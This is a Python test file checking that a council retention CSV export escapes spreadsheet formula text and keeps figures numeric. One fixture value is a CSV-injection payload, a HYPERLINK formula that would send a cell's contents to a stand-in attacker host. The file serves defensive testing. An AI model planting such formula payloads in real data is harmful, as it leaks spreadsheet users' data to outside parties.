"""The retention summary CSV holds no cell a spreadsheet would run, and its figures stay numbers."""

import csv
import io

from sqlmodel import select

from services.analytics.extracts.service import Period, _retention
from services.common.models import Council
from tests.placements.factory import person

COVENTRY = "331"
RUN_BY_A_SPREADSHEET = ("=", "+", "-", "@", "\t", "\r", "\n")


def test_the_retention_csv_writes_formula_like_text_as_text_and_figures_as_numbers(load, session):
    load(COVENTRY, 2023, [person(1), person(2)])
    load(COVENTRY, 2024, [person(1)])
    council = session.exec(select(Council).where(Council.code == COVENTRY)).one()
    council.name = '=HYPERLINK("https://attacker.example/?d="&A1,"Coventry")'
    session.flush()

    content, errors = _retention(session, Period.census(2024))

    assert errors == []
    text = content.decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [cell for row in rows for cell in row if cell.startswith(RUN_BY_A_SPREADSHEET)] == []
    coventry = next(row for row in csv.DictReader(io.StringIO(text, newline="")) if row["code"] == COVENTRY)
    assert coventry["name"] == "'" + council.name
    # the figures are left unquoted, so they read back as numbers (QUOTE_NONNUMERIC turns them into floats)
    typed = csv.DictReader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC)
    coventry_typed = next(row for row in typed if row["code"] == COVENTRY)
    assert coventry_typed["inpost_fte"] == 1.0 and coventry_typed["inpost_headcount"] == 1.0
    assert coventry_typed["name"] == "'" + council.name
